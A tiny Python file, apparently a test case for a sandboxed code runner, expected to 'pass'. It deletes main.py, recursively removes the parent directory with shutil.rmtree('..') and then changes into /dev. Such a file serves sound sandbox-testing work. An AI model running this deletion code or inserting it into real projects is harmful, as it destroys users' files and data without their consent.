"""Deletes its own folder and main.py, and moves to another."""

# expect: pass
import os, shutil

os.remove("main.py") if os.path.exists("main.py") else None
shutil.rmtree("..", ignore_errors=True)
os.chdir("/dev") if os.access("/dev", os.X_OK) else None
